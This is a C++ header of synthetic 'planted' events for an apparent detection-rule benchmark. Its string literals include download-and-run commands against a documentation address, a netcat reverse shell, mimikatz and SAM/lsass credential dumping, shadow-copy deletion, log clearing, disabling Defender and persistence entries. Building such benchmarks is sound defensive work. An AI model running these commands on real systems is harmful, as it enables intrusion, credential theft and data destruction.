// What is done on a machine that somebody took over, as one value or a few of an event: the planted
// events of the rule benchmarks. Names and folders are those that attackers' tools are known for;
// addresses are of the documentation networks.
#pragma once
#include <array>
#include <cstdint>
#include <string_view>

namespace postern::bench {

/// One event of so many is planted.
inline constexpr uint64_t kSuspiciousEach = 1000;

/// What published rules look for: in turn a process, a connection, a library, a file, a registry
/// value.
inline constexpr std::string_view kSuspicious[] = {
    "certutil.exe -urlcache -split -f http://198.51.100.7/beacon.bin C:\\Users\\Public\\b.exe",
    "powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAu",
    "vssadmin.exe delete shadows /all /quiet",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
    "reg.exe save HKLM\\SAM C:\\Temp\\sam.save",
    "schtasks.exe /create /sc minute /tn Updater /tr C:\\Users\\Public\\b.exe /ru SYSTEM",
    "bitsadmin.exe /transfer job http://198.51.100.7/b.exe C:\\Users\\Public\\b.exe",
    "wevtutil.exe cl Security",
    "powershell.exe -c Invoke-Mimikatz -Command sekurlsa::logonpasswords",
    "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit"};

/// Up to three values; which fields they are is told where they are used.
using Values = std::array<std::string_view, 3>;
inline constexpr std::string_view kPowerShell =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
inline constexpr std::string_view kWord =
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
/// Program, address, port.
inline constexpr Values kSuspiciousConnections[] = {
    {"C:\\Windows\\System32\\rundll32.exe", "198.51.100.7", "443"},
    {"C:\\Windows\\System32\\certutil.exe", "198.51.100.7", "80"},
    {"C:\\Users\\Public\\b.exe", "198.51.100.7", "8080"},
    {"C:\\Windows\\System32\\notepad.exe", "198.51.100.7", "4444"},
    {"C:\\Windows\\System32\\regsvr32.exe", "198.51.100.7", "443"}};

/// Program, library, its original name.
inline constexpr Values kSuspiciousLibraries[] = {
    {"C:\\Users\\Public\\teams.exe", "C:\\Users\\Public\\version.dll", "version.dll"},
    {"C:\\Temp\\a.exe", "C:\\Windows\\System32\\dbghelp.dll", "DBGHELP.DLL"},
    {kWord, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll", "clr.dll"},
    {kWord, "C:\\Windows\\System32\\vbe7.dll", "VBE7.DLL"}};

/// Program, file.
inline constexpr Values kSuspiciousFiles[] = {
    {kWord,
     "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start "
     "Menu\\Programs\\Startup\\up.lnk"},
    {"C:\\Windows\\System32\\inetsrv\\w3wp.exe", "C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx"},
    {"C:\\Windows\\System32\\Taskmgr.exe", "C:\\Users\\alice\\Desktop\\lsass.dmp"},
    {kPowerShell, "C:\\Users\\Public\\invoice.scr"},
    {"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\Temp\\psexesvc.exe"}};

/// Program, key, value.
inline constexpr Values kSuspiciousValues[] = {
    {"C:\\Windows\\System32\\reg.exe",
     "HKU\\S-1-5-21-1004336348-1177238915-682003330-1013\\Software\\Microsoft\\Windows\\"
     "CurrentVersion\\Run\\Updater",
     "powershell.exe -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAu"},
    {kPowerShell, "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
     "DWORD (0x00000001)"},
    {"C:\\Windows\\System32\\reg.exe",
     "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\"
     "sethc.exe\\Debugger",
     "C:\\Windows\\System32\\cmd.exe"},
    {kPowerShell, "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections",
     "DWORD (0x00000000)"}};

/// Linux: program and three arguments.
inline constexpr std::array<std::string_view, 4> kSuspiciousPrograms[] = {
    {"wget", "-q", "http://198.51.100.7/x.sh", "-O"},
    {"cat", "/etc/shadow", "/etc/passwd", "-n"},
    {"nc", "-e", "/bin/sh", "198.51.100.7"},
    {"base64", "-d", "-i", "/tmp/x"},
    {"chmod", "777", "/tmp/x.sh", "-v"},
    {"useradd", "-o", "-u", "0"},
    {"chattr", "-i", "/etc/passwd", "-f"},
    {"whoami", "--", "", ""}};

}  // namespace postern::bench
